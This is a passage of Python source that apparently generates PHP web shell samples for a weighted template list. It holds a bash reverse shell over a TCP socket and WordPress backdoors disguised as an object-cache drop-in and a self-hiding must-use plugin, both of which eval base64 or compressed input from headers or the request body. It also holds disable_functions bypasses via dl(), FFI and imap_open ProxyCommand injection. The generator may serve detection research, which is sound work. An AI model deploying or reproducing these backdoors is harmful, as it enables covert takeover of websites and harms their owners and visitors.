$sock = stream_socket_client('tcp://%s:%d', $en, $es, 30);
$proc = proc_open('/bin/bash', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pp);
stream_set_blocking($sock, false);
foreach ($pp as $x) { stream_set_blocking($x, false); }
while (!feof($sock)) {
    $r = array($sock, $pp[1], $pp[2]); $w = null; $e = null;
    if (stream_select($r, $w, $e, null) === false) break;
    if (in_array($sock, $r)) fwrite($pp[0], fread($sock, 1400));
    if (in_array($pp[1], $r)) fwrite($sock, fread($pp[1], 1400));
    if (in_array($pp[2], $r)) fwrite($sock, fread($pp[2], 1400));
}""" % (h, p)


def ws_dropin(r, S):
    n = r.choice(("object-cache.php", "advanced-cache.php", "db-error.php", "maintenance.php"))
    body = layers(r, S, "if(!empty($_SERVER['HTTP_X_%s'])){eval(base64_decode($_SERVER['HTTP_X_%s']));}" % ((rword(r, 4, "ABCDEFGHIJKLMNOP"),) * 2), 1)
    return [("wp-content/" + n, """<?php
/**
 * Object cache drop-in (persistent backend).
 *
 * @package WordPress
 */
if (!defined('ABSPATH')) {
    die();
}

function wp_cache_init() {
    $GLOBALS['wp_object_cache'] = new WP_Object_Cache();
}

%s

class WP_Object_Cache {
    private $cache = array();
    public function get($key, $group = 'default') { return $this->cache[$group][$key] ?? false; }
    public function set($key, $data, $group = 'default') { $this->cache[$group][$key] = $data; return true; }
}
""" % body, "php")]


def ws_hidden_mu(r, S):
    sl = slug(r)
    return [("wp-content/mu-plugins/%s.php" % r.choice(("0-loader", "wp-health", "cache-compat")), """<?php
/*
Plugin Name: %s
*/
add_filter('all_plugins', function ($p) { unset($p['%s/%s.php']); return $p; });
add_filter('show_advanced_plugins', '__return_false');
add_action('wp_loaded', function () {
    $k = isset($_SERVER['HTTP_X_WP_KEY']) ? $_SERVER['HTTP_X_WP_KEY'] : '';
    if ($k && hash('sha256', $k) === '%s') {
        $b = file_get_contents('php://input');
        eval('?>' . gzuncompress(base64_decode($b)));
        exit;
    }
});
""" % (r.choice(("WP Health", "Cache Compat")), sl, sl, hexname(r, 64)), "php")]


def ws_dl_ffi(r, S):
    k = r.randint(0, 1)
    if k == 0:
        return """if (function_exists('dl') && !extension_loaded('x')) {
    file_put_contents('/tmp/x.so', base64_decode(%s));
    @dl('../../../../../tmp/x.so');
}
echo x_exec(%s);""" % (source(r, S), source(r, S))
    return """$ffi = FFI::cdef('int system(const char *command);', 'libc.so.6');
$ffi->system(%s . ' > /tmp/.o');
echo file_get_contents('/tmp/.o');""" % source(r, S)


def ws_imap_bypass(r, S):
    return """$c = base64_encode(%s . ' > /tmp/.r');
$srv = 'x -oProxyCommand=echo\\t' . $c . '|base64\\t-d|sh}';
@imap_open('{' . $srv . ':143/imap}INBOX', '', '');
echo @file_get_contents('/tmp/.r');""" % source(r, S)


def ws_yaml_cb(r, S):
    return """$cb = array('!x' => function ($v) { return shell_exec($v); });
yaml_parse("--- !x " . %s . "\\n...", 0, $n, $cb);""" % source(r, S)


def ws_iterator_cb(r, S):
    return """$it = new ArrayIterator(array(%s));
iterator_apply($it, function (Iterator $i) { echo shell_exec($i->current()); return false; }, array($it));""" % source(r, S)


TEMPLATES = [
    ("fm_big_layered", ws_fm_big_layered, 6), ("fm_big_plain", ws_fm_big_plain, 5), ("js_ui_dispatcher", ws_js_ui_dispatcher, 6),
    ("obfuscator_goto", ws_obfuscator_goto, 6), ("php8_idioms", ws_php8_idioms, 9), ("anon_class", ws_anon_class, 6),
    ("header_sources", ws_header_sources, 9), ("raw_body", ws_raw_body, 6), ("callback_sinks", ws_callback_sinks, 10),
    ("ld_preload_mail", ws_ld_preload, 4), ("proc_open_forms", ws_proc_open, 5), ("writer_sinks", ws_writer_sinks, 8),
    ("symlink_attack", ws_symlink_attack, 4), ("posix_recon", ws_posix_probe, 4), ("inject_middle", ws_inject_middle, 8),
    ("odd_include", ws_odd_include, 6), ("framework_inject", ws_framework_inject, 7), ("uploader", ws_uploader, 6),
    ("wp_admin_creator", ws_wp_admin_creator, 5), ("reverse_shell", ws_revshell_php, 4), ("dropin_backdoor", ws_dropin, 3),
    ("hidden_mu_plugin", ws_hidden_mu, 3), ("dl_ffi", ws_dl_ffi, 2), ("imap_bypass", ws_imap_bypass, 1),
    ("yaml_callback", ws_yaml_cb, 1), ("iterator_cb", ws_iterator_cb, 1),
]
